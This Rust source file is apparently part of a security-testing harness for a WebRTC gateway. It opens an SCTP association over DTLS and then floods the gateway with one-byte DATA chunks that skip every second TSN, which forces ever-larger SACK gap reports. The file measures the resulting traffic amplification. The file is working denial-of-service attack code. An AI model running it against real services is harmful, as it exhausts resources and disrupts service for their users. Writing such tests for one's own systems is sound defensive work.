//! DATA chunks of one byte with every second TSN missing.
//!
//! Each is answered by a SACK that lists all gaps so far (RFC 9260 section 3.3.4), four bytes for
//! each.

use std::time::Duration;

use distributary_webrtc::demux::DatagramKind;
use tokio::time::Instant;

use super::association::Association;
use super::context::Context;
use super::error::AttackError;
use super::http::HttpPeer;
use super::sctp;
use super::session::Session;

/// Timeout of the association's handshake.
const CONNECT_TIMEOUT: Duration = Duration::from_secs(5);

/// Timeout of an answer.
const WAIT: Duration = Duration::from_millis(20);

/// The first TSN, and the tag of packets to us.
const FIRST_TSN: u32 = 1000;
const TAG: u32 = 0x5a5a_5a5a;

/// Header, explicit nonce and tag of a DTLS record (RFC 6347 section 4.1, RFC 5288 section 3).
const RECORD_OVERHEAD: usize = 13 + 8 + 16;

/// Packets sent between two reads.
const BATCH: u32 = 8;

pub(super) async fn run(context: &Context) -> Result<(), AttackError> {
    let mut http = HttpPeer::connect(context, 0).await?;
    let session = Session::ask(context, &mut http, &context.target().stream, true).await?;
    let mut association = Association::new(context, 0, &session).await?;
    let tag = open(context, &mut association).await?;
    let (mut tsn, mut bytes_in, mut bytes_out) = (FIRST_TSN, 0, 0);
    loop {
        for _ in 0..BATCH {
            // The first one, and then every second.
            let packet = sctp::data(tag, tsn);
            tsn = tsn.wrapping_add(2);
            association.dtls.send(&packet);
            bytes_in += packet.len() + RECORD_OVERHEAD;
        }
        while let Some((kind, len)) = association.turn(context, Duration::ZERO, None).await? {
            if kind == DatagramKind::Dtls {
                context.note_max("biggest datagram", len as f64);
                bytes_out += len;
            }
            while association.dtls.poll_received().is_some() {}
        }
        context.note("SCTP bytes in", bytes_in as f64);
        context.note("SCTP bytes out", bytes_out as f64);
        context.note("amplification", bytes_out as f64 / bytes_in as f64);
        if association.has_ended {
            context.note("association ended", 1.0);
            return Ok(());
        }
    }
}

/// Connects and makes an SCTP association; returns the tag of packets to the gateway.
async fn open(context: &Context, association: &mut Association) -> Result<u32, AttackError> {
    let deadline = Instant::now() + CONNECT_TIMEOUT;
    let (mut has_begun, mut ack) = (false, None);
    while Instant::now() < deadline {
        association.turn(context, WAIT, None).await?;
        if association.is_connected && !has_begun {
            association.dtls.send(&sctp::init(TAG, FIRST_TSN));
            has_begun = true;
        }
        while let Some(packet) = association.dtls.poll_received() {
            if let Some(received) = sctp::init_ack(&packet) {
                association.dtls.send(&sctp::cookie_echo(&received));
                ack = Some(received.tag);
            }
            if let Some(tag) = ack
                && sctp::has_chunk(&packet, sctp::COOKIE_ACK)
            {
                return Ok(tag);
            }
        }
    }
    Err(AttackError::Timeout("SCTP association", CONNECT_TIMEOUT))
}
